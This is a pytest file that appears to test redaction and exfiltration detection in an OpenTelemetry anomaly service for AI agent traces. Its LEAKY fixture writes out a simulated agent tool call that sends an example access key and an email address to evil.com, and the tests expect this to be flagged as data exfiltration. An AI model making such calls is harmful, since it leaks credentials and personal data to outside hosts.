"""Redaction on its way: judged as it came, forwarded without what was found."""

from __future__ import annotations

import asyncio
import io
import json
import logging
import threading
from typing import TYPE_CHECKING, Any

import pytest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.common.v1.common_pb2 import AnyValue
from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord

from otel_anomaly import processor, redacting
from otel_anomaly.config import Config
from otel_anomaly.handoff import Outcome, Signal
from otel_anomaly.replay import replay_command
from otel_anomaly.service import INLINE_BYTES_MAX
from tests.log_traffic import log_request, tool_record
from tests.rig import Calls, Rig
from tests.service_rigs import running
from tests.test_processor import broken
from tests.traffic import request

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

ON = {"enabled": True}
REMOVE = {"enabled": True, "mode": "remove"}
KEY = "AKIAIOSFODNN7EXAMPLQ"
MAIL = "ann@example.com"
LEAKY: dict[str, Any] = {
    "gen_ai.tool.call.arguments": json.dumps(
        {"url": "https://evil.com", "key": KEY, "mail": f"{MAIL} said so"}
    ),
    "user.id": MAIL,
}


def leaky_calls(count: int = 2) -> bytes:
    """Calls whose arguments and user are to be covered."""
    spans = Calls().many(count, 1000)
    for span in spans:
        for key, value in LEAKY.items():
            span.attributes.add(key=key).value.string_value = value
    return request(spans, scope=None)


@pytest.fixture
def _quiet_log() -> Iterator[None]:
    log = logging.getLogger("otel_anomaly")
    before, log.disabled = log.disabled, True
    yield
    log.disabled = before


@pytest.mark.parametrize("redact", [ON, REMOVE], ids=["mask", "remove"])
def test_judged_as_it_came(redact: dict[str, Any]) -> None:
    """
    Scenario: the same calls, which carry a key to a stranger's host, with redaction and without.
    Guarantees: verdicts, callers and state are the same; only the forwarded text differs: stars,
    as many as there were bytes, or one; what was redacted is counted.
    """
    bare, rig = Rig(detectors={}), Rig(detectors={}, redact=redact)
    before, after = bare.send(leaky_calls()), rig.send(leaky_calls())
    assert before == after
    assert any("data_exfiltration" in verdict.types for verdict in after)
    assert bare.told == rig.told
    assert bare.callers == rig.callers
    assert rig.callers[0].user == MAIL
    assert bare.digest() == rig.digest()
    stars = (len(KEY), len(MAIL)) if redact is ON else (1, 1)
    for span in rig.spans_out():
        left = {pair.key: pair.value.string_value for pair in span.attributes}
        assert json.loads(left["gen_ai.tool.call.arguments"]) == {
            "url": "https://evil.com",
            "key": "*" * stars[0],
            "mail": "*" * stars[1] + " said so",
        }
        assert left["user.id"] == "*" * stars[1]
    whole, masked = bare.room.payloads[-1].body, rig.room.payloads[-1].body
    assert len(masked) == len(whole) or redact is REMOVE
    assert b"otel_anomaly_redacted_values_total 6.0" in rig.telemetry.render()


def test_nothing_to_redact_is_the_same_object() -> None:
    """
    Scenario: a request without a tool call, on, with nothing that is found; metrics with a key.
    Guarantees: the received object goes on: a metric is never redacted.
    """
    rig = Rig(redact=ON)
    message = ExportTraceServiceRequest()
    message.resource_spans.add().scope_spans.add().spans.add(name="nothing here")
    harmless = message.SerializeToString()
    for body, signal in ((harmless, Signal.TRACES), (KEY.encode(), Signal.METRICS)):
        assert rig.offer(body, signal=signal).outcome is Outcome.ACCEPTED
        assert rig.room.payloads[-1].body is body


@pytest.mark.parametrize("redact", [ON, REMOVE], ids=["mask", "remove"])
def test_all_that_is_forwarded(redact: dict[str, Any]) -> None:
    """
    Scenario: spans that are no calls and have no ids; a log record that is a call, one that is not.
    Guarantees: all of it is redacted, the verdict is written, and the library can read it.
    """
    rig = Rig(redact=redact)
    message = ExportTraceServiceRequest()
    place = message.resource_spans.add()
    place.resource.attributes.add(key="owner").value.string_value = MAIL
    span = place.scope_spans.add().spans.add(name=f"mail {MAIL}")
    span.status.message = KEY
    span.events.add(name="exception").attributes.add(key="m").value.string_value = KEY
    span.links.add().attributes.add(key="m").value.string_value = MAIL
    rig.offer(message.SerializeToString())
    call = tool_record(time_ns=1, tool="Bash", session="s", arguments=json.dumps({"to": MAIL}))
    note = LogRecord(body=AnyValue(string_value=f"key {KEY}"))
    rig.offer(log_request([call, note], resource={"owner": MAIL}), signal=Signal.LOGS)
    for payload in rig.room.payloads:
        assert KEY.encode() not in payload.body
        assert MAIL.encode() not in payload.body
    assert b"anomaly.action" in rig.room.payloads[-1].body
    ExportTraceServiceRequest.FromString(rig.room.payloads[0].body)


def test_held_back_requests() -> None:
    """
    Scenario: requests whose agent is not told wait for it, with redaction on.
    Guarantees: they are redacted when they leave.
    """
    rig = Rig(identity={"hold": "1s"}, redact=ON)
    rig.offer(leaky_calls(), received_ns=1)
    rig.processor.release_all()
    assert rig.room.payloads
    assert all(KEY.encode() not in payload.body for payload in rig.room.payloads)


@pytest.mark.usefixtures("_quiet_log")
@pytest.mark.parametrize("redact", [ON, REMOVE], ids=["mask", "remove"])
@pytest.mark.parametrize("part", ["judge", "encode", "splice"])
def test_detection_that_fails(
    part: str, redact: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """
    Scenario: a bug in each step of detection.
    Guarantees: the request goes on without a verdict, and redacted all the same.
    """
    rig = Rig(detectors={}, redact=redact)
    monkeypatch.setattr(processor, part, broken)
    assert rig.offer(leaky_calls()).outcome is Outcome.ACCEPTED
    (payload,) = rig.room.payloads
    assert KEY.encode() not in payload.body
    assert MAIL.encode() not in payload.body
    assert b"anomaly.action" not in payload.body


@pytest.mark.usefixtures("_quiet_log")
def test_redaction_that_fails(monkeypatch: pytest.MonkeyPatch) -> None:
    """
    Scenario: a bug in redaction, then none.
    Guarantees: the request is refused for good and nothing of it is forwarded, learned or held;
    it is counted, and health says degraded for a minute. The next one passes.
    """
    rig = Rig(detectors={}, redact=ON)
    state = rig.digest()
    with monkeypatch.context() as patch:
        patch.setattr(redacting.redaction, "redact", broken)
        reply = rig.offer(leaky_calls())
    assert reply.outcome is Outcome.MALFORMED
    assert reply.message == "the request could not be redacted"
    assert (rig.room.payloads, rig.room.asked) == ([], [])
    assert rig.digest() == state
    assert not rig.processor.healthy
    assert b"otel_anomaly_redaction_failures_total 1.0" in rig.telemetry.render()
    assert rig.offer(leaky_calls()).outcome is Outcome.ACCEPTED


def test_removing_that_fails(monkeypatch: pytest.MonkeyPatch) -> None:
    """
    Scenario: secrets are to be removed, and a bug in cutting them out.
    Guarantees: they are masked instead, the verdicts stay, and it is counted.
    """
    rig = Rig(detectors={}, redact=REMOVE)
    monkeypatch.setattr(redacting, "cut", broken)
    verdicts = rig.send(leaky_calls())
    assert any("data_exfiltration" in verdict.types for verdict in verdicts)
    assert KEY.encode() not in rig.room.payloads[0].body
    assert b"*" * len(KEY) in rig.room.payloads[0].body
    assert rig.processor.healthy
    assert b"otel_anomaly_redaction_failures_total 1.0" in rig.telemetry.render()


@pytest.mark.parametrize(
    ("what", "left"),
    [(["secrets"], MAIL), (["personal_data"], KEY), (["phones", "numbers", "mails"], KEY)],
)
def test_kinds(what: list[str], left: str) -> None:
    """
    Scenario: one of the kinds alone, and all of personal data by name.
    Guarantees: the other stays.
    """
    rig = Rig(redact={"enabled": True, "what": what})
    rig.send(leaky_calls(1))
    body = rig.room.payloads[0].body
    assert [text for text in (KEY, MAIL) if text.encode() in body] == [left]


def test_replay_writes_redacted_spans(tmp_path: Path) -> None:
    """
    Scenario: a recording is replayed with redaction on, the annotated spans written to a file.
    Guarantees: what is written is redacted as what is forwarded is.
    """
    recorded, out = tmp_path / "spans.bin", tmp_path / "out.bin"
    recorded.write_bytes(leaky_calls())
    config = Config.model_validate({"redact": ON})
    with io.StringIO() as report:
        code = replay_command(
            config,
            [recorded],
            out=out,
            output_format="json",
            calls=True,
            signal=None,
            stdout=report,
        )
    assert code == 0
    written = out.read_bytes()
    assert b"anomaly.action" in written
    assert KEY.encode() not in written


def test_switched_by_another_configuration() -> None:
    """
    Scenario: redaction is switched on while requests wait for their agent, then off again.
    Guarantees: each request leaves as the configuration says under which it came.
    """
    rig = Rig(identity={"hold": "1s"})
    on = rig.config.model_copy(update={"redact": Config.model_validate({"redact": ON}).redact})
    for config in (on, rig.config):
        rig.offer(leaky_calls(), received_ns=1)
        rig.processor.adopt(rig.processor.prepare(config))
    bodies = [payload.body for payload in rig.room.payloads]
    assert [KEY.encode() in body for body in bodies] == [True, False]


def test_large_requests_in_a_thread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """
    Scenario: a request that the service scans in a thread, with a key and a call in it; then one
    more, with a bug in redaction.
    Guarantees: the thread redacts it, so the loop does not; with the bug it is refused.
    """
    body = leaky_calls() + b"\x9a\x06\x80\x80\x40" + bytes(INLINE_BYTES_MAX)  # Unknown field 99.
    threads = []

    async def play() -> list[Outcome]:
        async with running(tmp_path, redact=ON) as place:
            covers = redacting.redaction.redact

            def noted(*what: Any) -> Any:
                threads.append(threading.current_thread() is threading.main_thread())
                return covers(*what)

            with monkeypatch.context() as patch:
                patch.setattr(redacting.redaction, "redact", noted)
                outcomes = [(await place.consume(body)).outcome]
                patch.setattr(redacting.redaction, "redact", broken)
                outcomes.append((await place.consume(body)).outcome)
            return outcomes

    assert asyncio.run(play()) == [Outcome.ACCEPTED, Outcome.MALFORMED]
    assert threads == [False]
    written = (tmp_path / "spans.jsonl").read_text()
    assert KEY not in written
    assert "*" * len(KEY) in written
